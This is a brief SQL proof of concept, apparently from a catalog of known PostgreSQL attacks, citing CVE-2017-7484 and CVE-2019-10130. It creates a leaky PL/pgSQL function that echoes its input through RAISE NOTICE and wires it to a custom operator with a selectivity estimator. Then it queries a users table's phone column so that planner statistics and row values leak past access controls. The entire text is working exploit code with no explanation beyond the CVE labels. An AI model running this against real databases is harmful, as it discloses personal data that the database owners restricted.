-- what: an operator whose function the planner feeds with most common values
-- known: CVE-2017-7484, CVE-2019-10130
-- purpose: service
CREATE FUNCTION tells(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN RAISE NOTICE 'saw %', $1; RETURN false; END $$;
CREATE OPERATOR <<< (FUNCTION = tells, LEFTARG = text, RIGHTARG = text, RESTRICT = scalarltsel);
EXPLAIN SELECT 1 FROM users WHERE phone <<< 'x';
SELECT 1 FROM users WHERE phone <<< 'x';
